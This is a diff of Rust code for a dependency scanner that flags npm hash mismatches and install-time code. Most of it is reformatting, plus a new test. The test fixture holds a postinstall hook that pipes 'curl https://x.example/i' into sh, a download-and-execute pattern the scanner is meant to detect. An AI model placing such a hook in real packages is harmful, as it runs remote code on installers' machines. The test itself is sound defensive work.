@@ -122,10 +122,20 @@ enum Outcome {
     Error(String, String),
 }
 
-fn one_package(lockfile: &str, package: &Package, lock_state: &CodeState, source: &dyn ArtifactSource) -> Outcome {
+fn one_package(
+    lockfile: &str,
+    package: &Package,
+    lock_state: &CodeState,
+    source: &dyn ArtifactSource,
+) -> Outcome {
     let artifact = match source.fetch(package) {
         Ok(artifact) => artifact,
-        Err(FetchError::HashMismatch { url, algorithm, expected, actual }) => {
+        Err(FetchError::HashMismatch {
+            url,
+            algorithm,
+            expected,
+            actual,
+        }) => {
             let mut finding = Finding::for_package(
                 "hash-mismatch",
                 Severity::Critical,
@@ -137,7 +147,9 @@ fn one_package(lockfile: &str, package: &Package, lock_state: &CodeState, source
             finding.evidence.push(Evidence {
                 path: lockfile.to_owned(),
                 line: package.line,
-                snippet: Some(format!("expected {algorithm} {expected}, downloaded {actual}")),
+                snippet: Some(format!(
+                    "expected {algorithm} {expected}, downloaded {actual}"
+                )),
                 note: Some(url),
             });
             return Outcome::Finding(Box::new(finding));
@@ -161,7 +173,12 @@ fn one_package(lockfile: &str, package: &Package, lock_state: &CodeState, source
 
 /// A finding when the lockfile and the artifact disagree about install-time code (an
 /// `unknown` lock state is not a disagreement).
-fn disagreement(lockfile: &str, package: &Package, lock: &CodeState, artifact: &CodeState) -> Option<Finding> {
+fn disagreement(
+    lockfile: &str,
+    package: &Package,
+    lock: &CodeState,
+    artifact: &CodeState,
+) -> Option<Finding> {
     let differs = match (lock, artifact) {
         (CodeState::Unknown, _) => false,
         (a, b) => a.runs_code() != b.runs_code(),
@@ -169,10 +186,99 @@ fn disagreement(lockfile: &str, package: &Package, lock: &CodeState, artifact: &
     differs.then(|| {
         Finding::for_package(
             "install-time-code",
-            if artifact.runs_code() { Severity::High } else { Severity::Info },
+            if artifact.runs_code() {
+                Severity::High
+            } else {
+                Severity::Info
+            },
             package,
             lockfile,
-            format!("the lockfile says {}, the artifact says {}", lock.label(), artifact.label()),
+            format!(
+                "the lockfile says {}, the artifact says {}",
+                lock.label(),
+                artifact.label()
+            ),
         )
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tollgate_model::{Ecosystem, Lockfile, LockfileFormat};
+
+    /// Serves one fixed npm tarball, or a hash mismatch for `bad`.
+    struct Fixed(Vec<u8>);
+
+    impl ArtifactSource for Fixed {
+        fn fetch(&self, package: &Package) -> Result<FetchedArtifact, FetchError> {
+            if package.name == "bad" {
+                return Err(FetchError::HashMismatch {
+                    url: "https://registry.example/bad.tgz".into(),
+                    algorithm: "sha512".into(),
+                    expected: "aa".into(),
+                    actual: "bb".into(),
+                });
+            }
+            Ok(FetchedArtifact {
+                filename: format!("{}.tgz", package.name),
+                bytes: self.0.clone(),
+            })
+        }
+    }
+
+    fn tarball(package_json: &str) -> Vec<u8> {
+        let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        let mut tar = tar::Builder::new(gzip);
+        let mut header = tar::Header::new_gnu();
+        header.set_size(package_json.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        tar.append_data(&mut header, "package/package.json", package_json.as_bytes())
+            .unwrap();
+        tar.into_inner().unwrap().finish().unwrap()
+    }
+
+    #[test]
+    fn analyses_runs_code_packages_and_reports_hash_mismatches() {
+        let mut good = Package::new(Ecosystem::Npm, "good", "1.0.0");
+        good.install.has_install_script = Some(true);
+        let mut bad = Package::new(Ecosystem::Npm, "bad", "1.0.0");
+        bad.install.has_install_script = Some(true);
+        let skipped = Package::new(Ecosystem::Npm, "plain", "1.0.0");
+        let mut lockfile = Lockfile::new(
+            "/nonexistent/package-lock.json",
+            LockfileFormat::PackageLock,
+        );
+        lockfile.format_version = Some("3".into());
+        lockfile.packages = vec![good, bad, skipped];
+        let inventory = Inventory {
+            lockfiles: vec![lockfile],
+            errors: Vec::new(),
+        };
+        let source = Fixed(tarball(
+            "{\"name\":\"good\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl https://x.example/i | sh\"}}",
+        ));
+        let scan = deep_scan(&inventory, &source, 2);
+        assert_eq!(
+            scan.reports.len(),
+            1,
+            "only `good` is analysed: {:?}",
+            scan.errors
+        );
+        let codes: Vec<(&str, Option<&str>)> = scan
+            .findings
+            .iter()
+            .map(|f| (f.code.as_str(), f.id.as_deref()))
+            .collect();
+        assert!(codes.contains(&("hash-mismatch", None)));
+        assert!(codes.contains(&("install-script", Some("install-script/download-exec"))));
+        let mismatch = scan
+            .findings
+            .iter()
+            .find(|f| f.code == "hash-mismatch")
+            .unwrap();
+        assert_eq!(mismatch.severity, Severity::Critical);
+        assert_eq!(mismatch.name.as_deref(), Some("bad"));
+    }
 }
